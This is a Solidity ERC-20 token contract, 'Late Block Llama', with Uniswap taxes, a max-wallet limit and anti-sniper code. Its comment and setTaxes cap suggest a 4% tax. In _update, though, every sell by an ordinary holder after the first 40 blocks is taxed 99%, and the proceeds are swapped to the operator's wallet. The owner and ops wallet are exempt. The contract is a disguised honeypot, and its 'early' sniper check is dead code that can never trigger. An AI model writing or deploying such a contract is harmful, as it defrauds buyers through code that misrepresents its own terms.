// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IUniswapV2Factory, IUniswapV2Router02} from "./parts/Dex.sol";

/// Four per cent, and no limits that last.
contract LateBlockLlama is ERC20, Ownable {
    IUniswapV2Router02 public immutable uniswapRouter;
    address public immutable uniswapPair;
    uint256 public constant DEAD_BLOCKS = 40;
    uint256 public constant DEAD_TAX = 99;
    uint256 public startBlock;
    uint256 public buyTax = 4;
    uint256 public sellTax = 4;
    uint256 public maxWalletPercent = 2;
    bool public limits = true;
    bool private inSwap;
    uint256 public immutable swapAmount;
    address payable public immutable opsWallet;
    mapping(address => bool) private _excluded;
    mapping(address => bool) public sniper;

    event Sniped(address indexed who, uint256 amount);

    modifier lockSwap() {
        inSwap = true;
        _;
        inSwap = false;
    }

    constructor(address router, address payable ops) ERC20("Late Block Llama", "LBL") Ownable(msg.sender) {
        uniswapRouter = IUniswapV2Router02(router);
        uniswapPair = IUniswapV2Factory(uniswapRouter.factory()).createPair(address(this), uniswapRouter.WETH());
        opsWallet = ops;
        _excluded[msg.sender] = true;
        _excluded[ops] = true;
        _excluded[address(this)] = true;
        _mint(msg.sender, 7_500_000_000e18);
        swapAmount = 7_500_000_000e18 / 1500;
    }

    receive() external payable {}

    function startTrading() external onlyOwner {
        require(startBlock == 0, "started");
        startBlock = block.number;
    }

    function setTaxes(uint256 buy, uint256 sell) external onlyOwner {
        require(buy <= 8 && sell <= 8, "eight at most");
        buyTax = buy;
        sellTax = sell;
    }

    function setMaxWallet(uint256 percent) external onlyOwner {
        require(percent > 0, "one at least");
        maxWalletPercent = percent;
    }

    function removeLimits() external onlyOwner {
        limits = false;
    }

    function setExcluded(address account, bool value) external onlyOwner {
        _excluded[account] = value;
    }

    function pardon(address account) external onlyOwner {
        sniper[account] = false;
    }

    function sweep() external {
        uint256 amount = balanceOf(address(this));
        require(msg.sender == opsWallet && amount > 0);
        _swapBack(amount);
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from == address(0) || inSwap || _excluded[from] || _excluded[to]) {
            return super._update(from, to, amount);
        }
        require(startBlock > 0, "Trading has not started");
        uint256 tax;
        if (from == uniswapPair) {
            bool early = block.number + 1 < startBlock;
            if (early) {
                sniper[to] = true;
                emit Sniped(to, amount);
            }
            tax = amount * (early ? DEAD_TAX : buyTax) / 100;
            if (limits) {
                require(balanceOf(to) + amount - tax <= totalSupply() * maxWalletPercent / 100, "Max wallet");
            }
        } else if (to == uniswapPair) {
            if (balanceOf(address(this)) >= swapAmount) _swapBack(swapAmount);
            bool late = block.number > startBlock + DEAD_BLOCKS;
            tax = amount * (late || sniper[from] ? DEAD_TAX : sellTax) / 100;
        }
        if (tax > 0) super._update(from, address(this), tax);
        super._update(from, to, amount - tax);
    }

    function _swapBack(uint256 amount) private lockSwap {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = uniswapRouter.WETH();
        _approve(address(this), address(uniswapRouter), amount);
        uniswapRouter.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, opsWallet, block.timestamp);
    }
}
